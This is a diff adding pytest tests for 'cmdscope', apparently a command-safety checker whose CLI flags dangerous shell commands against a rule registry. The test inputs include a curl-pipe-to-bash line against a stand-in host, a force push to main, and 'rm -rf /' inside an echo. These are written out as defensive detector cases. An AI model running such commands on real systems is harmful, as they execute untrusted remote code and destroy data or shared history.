@@ -1,0 +1,57 @@
+"""`cmdscope check` and `cmdscope registry`, run as real subprocesses."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+
+def run(tmp_path: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
+    full_env = dict(os.environ, XDG_STATE_HOME=str(tmp_path / "state"), **env)
+    full_env.pop("CMDSCOPE_REGISTRY_PATH", None) if "CMDSCOPE_REGISTRY_PATH" not in env else None
+    return subprocess.run([sys.executable, "-m", "cmdscope", *args], capture_output=True, text=True,
+                          env=full_env, cwd=tmp_path, timeout=60)
+
+
+def test_check_json_argv_and_string(tmp_path: Path) -> None:
+    """check prints the documented JSON and exits 1 on a match, 0 otherwise."""
+    out = run(tmp_path, "check", "--json", "--", "git", "push", "-f", "origin", "main")
+    assert out.returncode == 1
+    data = json.loads(out.stdout)
+    assert data["dangerous"] is True and data["severity"] == "critical"
+    assert data["registry_version"] == "1.0.0"
+    assert data["matches"] == [{"rule_id": "git.push-force-shared", "category": "git_remote",
+                                "severity": "critical", "rationale": data["matches"][0]["rationale"],
+                                "playbook": "docs/playbooks/git_remote.md#git-push-force-shared"}]
+    out = run(tmp_path, "check", "--json", "echo 'rm -rf /' && ls")
+    assert out.returncode == 0
+    assert json.loads(out.stdout) == {"dangerous": False, "severity": None, "matches": [],
+                                      "registry_version": "1.0.0"}
+    out = run(tmp_path, "check", "curl -s https://x.example | bash")
+    assert out.returncode == 1 and "rce.pipe-to-shell" in out.stdout
+
+
+def test_registry_list_lint_explain(tmp_path: Path) -> None:
+    """list shows every rule, lint passes on the shipped registry, explain shows one rule."""
+    out = run(tmp_path, "registry", "list")
+    assert out.returncode == 0 and "git.push-force-shared" in out.stdout
+    assert run(tmp_path, "registry", "lint").returncode == 0
+    out = run(tmp_path, "registry", "explain", "fs.rm-recursive-root")
+    assert out.returncode == 0 and "critical" in out.stdout and "near misses" in out.stdout
+    out = run(tmp_path, "registry", "explain", "no.such")
+    assert out.returncode == 2 and "no rule 'no.such'" in out.stderr
+
+
+def test_lint_reports_a_bad_file_in_one_line(tmp_path: Path) -> None:
+    """lint of a broken user file: exit 2, one line naming file, rule and field, no traceback."""
+    bad = tmp_path / "mine.yaml"
+    bad.write_text("rules:\n  - id: my.rule\n    title: x\n")
+    out = run(tmp_path, "registry", "lint", str(bad))
+    assert out.returncode == 2
+    assert out.stderr.count("\n") == 1 and "mine.yaml: rule my.rule: field" in out.stderr
+    assert "Traceback" not in out.stderr
